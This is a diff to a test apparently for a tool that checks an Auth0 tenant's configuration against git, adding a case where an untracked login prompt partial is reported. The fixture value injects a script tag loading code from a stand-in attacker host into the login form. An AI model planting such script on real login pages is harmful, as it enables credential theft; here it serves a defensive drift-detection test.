@@ -272,6 +272,9 @@ test('what no deploy takes away is said', async () => {
     name: 'Auth0 Management API',
     identifier: 'https://rogue.example.com/',
   })
+  await scene.management.prompts.partials.set('login', {
+    login: { 'form-content-start': '<script src="https://evil.example.net/x.js"></script>' },
+  })
   scene.output.length = 0
   expect(await scene.run('verify')).toBe(EXIT.ok)
   const said = scene.output.join('\n')
@@ -280,6 +283,7 @@ test('what no deploy takes away is said', async () => {
     [
       'note: clients: 1 third-party application is not in git, and is kept',
       'note: resourceServers/https://rogue.example.com/: called Auth0 Management API, which the Deploy CLI passes over, so it is not compared',
+      'note: prompts/partials of login: in the tenant and not in git; no deploy removes it, and it is not compared',
     ],
   ])
 })
